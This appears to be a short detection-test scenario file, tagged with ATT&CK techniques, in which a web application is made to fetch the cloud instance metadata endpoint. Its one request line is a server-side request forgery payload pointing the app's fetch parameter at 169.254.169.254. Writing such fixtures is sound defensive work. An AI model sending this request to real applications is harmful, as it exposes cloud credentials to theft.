# title: a web application asks the metadata service
# attack: T1190 T1552.005
# workload: webapp
# through: http
# shows: connect tcp/80 to metadata by python3
GET http://127.0.0.1:8000/fetch?url=http://169.254.169.254/latest/meta-data/
